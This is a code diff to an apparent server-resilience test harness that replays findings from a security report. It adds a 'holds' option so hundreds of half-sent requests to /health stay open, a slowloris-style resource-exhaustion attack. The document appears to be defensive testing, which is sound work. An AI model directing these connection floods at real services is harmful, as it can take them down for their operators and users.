@@ -31,13 +31,14 @@ CHARACTER = "中"
 class Attack:
     """A request that goes out on `parallel` connections at once; whoever sends it leaves after `patience_s` seconds.
 
-    `name` begins with the finding's number in the report.
+    `name` begins with the finding's number in the report. With `holds` the connections stay open all that time, answered or not.
     """
 
     name: str
     request: bytes
     parallel: int = 1
     patience_s: float = 20.0
+    holds: bool = False
 
 
 def keyed_attacks(task: str, key: str, models: list[str], patience_s: float) -> list[Attack]:
@@ -91,8 +92,8 @@ def keyless_attacks(patience_s: float) -> dict[str, list[Attack]]:
     """What somebody without a key sends: bodies and heads that never end."""
     head = b"POST /health HTTP/1.1\r\nHost: here\r\nContent-Type: application/json\r\nContent-Length: 3999999\r\n\r\n"
     return {
-        "keyless-1": [Attack("H1: bodies of /health, half sent", head + b"a" * 3_900_000, 100, patience_s)],
-        "keyless-2": [Attack("M5: heads, half sent", b"GET /health HTTP/1.1\r\nHost: he", 500, patience_s)],
+        "keyless-1": [Attack("H1: bodies of /health, half sent", head + b"a" * 3_900_000, 100, patience_s, holds=True)],
+        "keyless-2": [Attack("M5: heads, half sent", b"GET /health HTTP/1.1\r\nHost: he", 500, patience_s, holds=True)],
     }
 
 
@@ -112,14 +113,18 @@ async def answer(address: tuple[str, int], request: bytes, connection: socket.so
 
 async def fire(address: tuple[str, int], attack: Attack) -> str:
     """Send an attack on one connection; its status, "closed", or "left" when there was none in time."""
+    until = time.monotonic() + attack.patience_s
     with socket.socket() as connection:
         connection.setblocking(False)
         try:
-            return await asyncio.wait_for(answer(address, attack.request, connection), attack.patience_s)
+            status = await asyncio.wait_for(answer(address, attack.request, connection), attack.patience_s)
         except asyncio.TimeoutError:
-            return "left"
+            status = "left"
         except OSError:
-            return "closed"
+            status = "closed"
+        if attack.holds:
+            await asyncio.sleep(until - time.monotonic())
+    return status
 
 
 async def rotate(plan: dict[str, Any], who: str, attacks: list[Attack], counts: Counter[tuple[str, ...]]) -> None:
@@ -155,6 +160,10 @@ def main() -> None:
         attacks = keyed_attacks(plan["task"], plan["keys"][who], plan["models"], patience_s)
         begin = number * len(attacks) // 2
         attackers[who] = attacks[begin:] + attacks[:begin]
+    for who, attacks in list(attackers.items()):
+        attackers[who] = [attack for attack in attacks if attack.name.startswith(tuple(plan["only"]))]
+        if not attackers[who]:
+            del attackers[who]
     print("ready", flush=True)
     began = time.process_time()
     counts = asyncio.run(rotate_all(plan, attackers))
